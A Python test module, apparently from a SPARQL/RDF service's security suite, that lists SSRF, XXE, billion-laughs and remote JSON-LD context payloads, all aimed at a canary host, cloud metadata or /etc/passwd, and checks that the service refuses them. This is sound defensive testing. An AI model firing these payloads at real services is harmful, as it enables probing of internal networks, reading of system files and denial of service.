"""Ways to make the service open a connection or read a file for somebody: none is made, none is read.

A listener waits at ``@CANARY@``; `judging` fails whatever reaches it.
"""

from __future__ import annotations

from tests.attacks.attack import JSON_LD, TURTLE, XML, Attack, encoded, post, query, update

__all__ = ["ATTACKS"]

_WRITER = {"Authorization": "Bearer @WRITE@"}
_WHERE = "{ ?s ?p ?o }"
_RDF = 'xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="urn:x:"'
_ENTITY = f"<r:RDF {_RDF}><r:Description><p>&x;</p></r:Description></r:RDF>"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))

_SERVICES = {
    "service": f"SELECT * {{ SERVICE <http://@CANARY@/a> {_WHERE} }}",
    "service in small letters": f"SELECT * {{ service<http://@CANARY@/b>{_WHERE} }}",
    "silent service": f"SELECT * {{ SERVICE SILENT <http://@CANARY@/c> {_WHERE} }}",
    "service by a prefix": f"PREFIX c: <http://@CANARY@/> SELECT * {{ SERVICE c:d {_WHERE} }}",
    "service by a base": f"BASE <http://@CANARY@/> SELECT * {{ SERVICE <e> {_WHERE} }}",
    "service by a variable": f"SELECT * {{ VALUES ?e {{ <http://@CANARY@/f> }} SERVICE ?e {_WHERE} }}",
    "service by escaped letters": f"SELECT * {{ SERV\\u0049CE <http://@CANARY@/g> {_WHERE} }}",
    "service behind a comment": f"SELECT * {{ SERVICE#\n<http://@CANARY@/h> {_WHERE} }}",
    "service behind a text that seems open": f"SELECT * {{ ?a ?b '\\'' SERVICE <http://@CANARY@/i> {_WHERE} }}",
    "service in a subquery of a filter": (
        f"ASK {{ FILTER EXISTS {{ {{ SELECT * {{ SERVICE <http://@CANARY@/j> {_WHERE} }} }} }} }}"
    ),
    "service of the machine's own metadata": f"SELECT * {{ SERVICE <http://169.254.169.254/latest/> {_WHERE} }}",
    "service of a file": f"SELECT * {{ SERVICE <file:///etc/passwd> {_WHERE} }}",
    "graph from the network": f"SELECT * FROM <http://@CANARY@/k> {_WHERE}",
    "named graph from the network": f"SELECT * FROM NAMED <http://@CANARY@/l> {{ GRAPH ?g {_WHERE} }}",
    "graph from a file": f"SELECT * FROM <file:///etc/passwd> {_WHERE}",
    "graph from a file without an authority": f"SELECT * FROM <file:/etc/passwd> {_WHERE}",
    "graph from a file in big letters": f"SELECT * FROM <FILE:///etc/passwd> {_WHERE}",
    "graph from a file by a base": f"BASE <file:///etc/> SELECT * FROM NAMED <passwd> {{ GRAPH ?g {_WHERE} }}",
    "description of an address": "DESCRIBE <http://@CANARY@/m>",
}
_NOT_FETCHED = (200, 400, 403, 404)
_USING = "INSERT { ?s <urn:x:p> ?o } USING <http://@CANARY@/u> WHERE { ?s ?p ?o }"
_LOADS = {
    "load": "LOAD <http://@CANARY@/load>",
    "load in small letters": "load<http://@CANARY@/load>",
    "load into a graph": "LOAD <http://@CANARY@/load> INTO GRAPH <urn:x:g>",
    "load of a file": "LOAD <file:///etc/passwd>",
    "load after another operation": "INSERT DATA { <urn:x:a> <urn:x:b> 1 } ; LOAD <http://@CANARY@/load>",
    "load by escaped letters": "L\\u004FAD <http://@CANARY@/load>",
    "load behind a comment": "# nothing\nLOAD#\n<http://@CANARY@/load>",
    "update with a service": "INSERT { ?s ?p ?o } WHERE { SERVICE <http://@CANARY@/s> { ?s ?p ?o } }",
}
_DATA = {
    "remote context": (JSON_LD, '{"@context": "http://@CANARY@/context", "@id": "urn:x:a", "name": "b"}', (400,)),
    "remote context in a list": (
        JSON_LD,
        '{"@context": [{}, "http://@CANARY@/c2"], "@id": "urn:x:a", "n": "b"}',
        (400,),
    ),
    "remote context of a term": (
        JSON_LD,
        '{"@context": {"n": {"@id": "urn:x:n", "@context": "http://@CANARY@/c3"}}, "n": {"m": 1}}',
        (400,),
    ),
    "imported context": (JSON_LD, '{"@context": {"@version": 1.1, "@import": "http://@CANARY@/c4"}, "n": "b"}', (400,)),
    "context of a file": (JSON_LD, '{"@context": "file:///etc/passwd", "@id": "urn:x:a", "n": "b"}', (400,)),
    "external entity of a file": (
        XML,
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>{_ENTITY}',
        (400,),
    ),
    "external entity of the network": (
        XML,
        f'<!DOCTYPE a [<!ENTITY x SYSTEM "http://@CANARY@/x">]>{_ENTITY}',
        (400,),
    ),
    "external document type": (XML, f'<!DOCTYPE a SYSTEM "http://@CANARY@/dtd"><r:RDF {_RDF}/>', (400,)),
    "parameter entity": (XML, f'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://@CANARY@/y">%x;]><r:RDF {_RDF}/>', (400,)),
    "thousand million laughs": (
        XML,
        f'<!DOCTYPE a [<!ENTITY l0 "ha">{_LAUGHS}]><r:RDF {_RDF}><r:Description><p>&l11;</p></r:Description></r:RDF>',
        (400,),
    ),
    "inclusion of a file": (
        XML,
        f'<r:RDF {_RDF} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></r:RDF>',
        (400,),
    ),
}

ATTACKS: tuple[Attack, ...] = (
    *(query("no way out", name, text, *_NOT_FETCHED) for name, text in _SERVICES.items()),
    *(
        Attack(
            "no way out",
            f"{name} of the protocol",
            f"GET /sparql?query={encoded('SELECT * ' + _WHERE)}&{name}={encoded(iri)}",
            (400,),
        )
        for name, iri in (("default-graph-uri", "http://@CANARY@/n"), ("named-graph-uri", "file:///etc/passwd"))
    ),
    *(update("no way out", name, text, 400, 403) for name, text in _LOADS.items()),
    # The graph that is named is not here, so nothing is found.
    update("no way out", "update using a graph from the network", _USING, 200, 400),
    *(
        post("no way out", name, "/store?graph=urn:x:fetched", kind, text.encode(), *may, method="PUT", headers=_WRITER)
        for name, (kind, text, may) in _DATA.items()
    ),
    post(
        "no way out",
        "remote context by a Link header",
        "/store?graph=urn:x:fetched",
        "application/json",
        b'{"n": 1}',
        400,
        412,
        415,
        method="PUT",
        headers=_WRITER
        | {"If-Match": '"gone"', "Link": '<http://@CANARY@/c5>; rel="http://www.w3.org/ns/json-ld#context"'},
    ),
    post(
        "no way out",
        "document of Turtle that imports",
        "/store?graph=urn:x:imports&check=bogus",
        TURTLE,
        b"<urn:x:a> <http://www.w3.org/2002/07/owl#imports> <http://@CANARY@/o> .",
        400,
        method="PUT",
        headers=_WRITER,
    ),
)
